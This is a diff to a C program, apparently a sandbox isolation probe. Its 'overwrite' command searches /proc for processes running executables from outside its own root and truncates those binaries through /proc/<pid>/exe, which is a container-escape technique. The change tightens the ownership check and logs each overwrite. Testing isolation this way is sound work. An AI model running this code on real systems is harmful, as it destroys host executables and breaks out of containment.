@@ -58,33 +58,43 @@ static int do_exchange(char **words) {
     return say("exchange", swaps);
 }
 
+/* Whether a handle is on a file that this root has by the handle's name. */
+static int is_own(const char *name, int handle) {
+    struct stat held, named;
+    if (fstat(handle, &held) < 0 || stat(name, &named) < 0) return 0;
+    return held.st_dev == named.st_dev && held.st_ino == named.st_ino;
+}
+
 /* overwrite SECONDS: looks for a program that is not of this root behind /proc/<pid>/exe, and writes over it. */
 static int do_overwrite(char **words) {
     double end = now() + atof(words[0]);
     long tries = 0, wrote = 0;
-    struct stat own;
-    if (stat("/bin/probe", &own) < 0) return say("stat", -1);
     say("overwriting", 1);
     while (!over(end)) {
         DIR *proc = opendir("/proc");
         struct dirent *entry;
         while (proc && (entry = readdir(proc))) {
             char path[64];
-            struct stat there;
             int pid = atoi(entry->d_name);
             if (pid <= 0 || pid == getpid()) continue;
             snprintf(path, sizeof path, "/proc/%d/exe", pid);
-            if (stat(path, &there) < 0 || there.st_dev == own.st_dev && access("/bin/probe", F_OK) == 0 && there.st_ino == own.st_ino) continue;
-            char name[PATH_MAX] = "";
-            if (readlink(path, name, sizeof name - 1) > 0 && strncmp(name, "/bin/", 5) == 0) continue;
             int handle = open(path, O_PATH);
             if (handle < 0) continue;
-            tries++;
+            /* The handle is asked, not the process: that may have executed something else between two looks at it. */
+            char name[PATH_MAX] = "";
             snprintf(path, sizeof path, "/proc/self/fd/%d", handle);
+            if (readlink(path, name, sizeof name - 1) > 0 && is_own(name, handle)) {
+                close(handle);
+                continue;
+            }
+            tries++;
             for (int i = 0; i < 2000; i++) {
                 int out = open(path, O_WRONLY | O_TRUNC);
                 if (out < 0 && errno == ETXTBSY) continue;
-                if (out >= 0 && write(out, "#!/bin/sh\n", 10) == 10) wrote++;
+                if (out >= 0 && write(out, "#!/bin/sh\n", 10) == 10) {
+                    wrote++;
+                    printf("overwrite: into %s\n", name);
+                }
                 if (out >= 0) close(out);
                 break;
             }
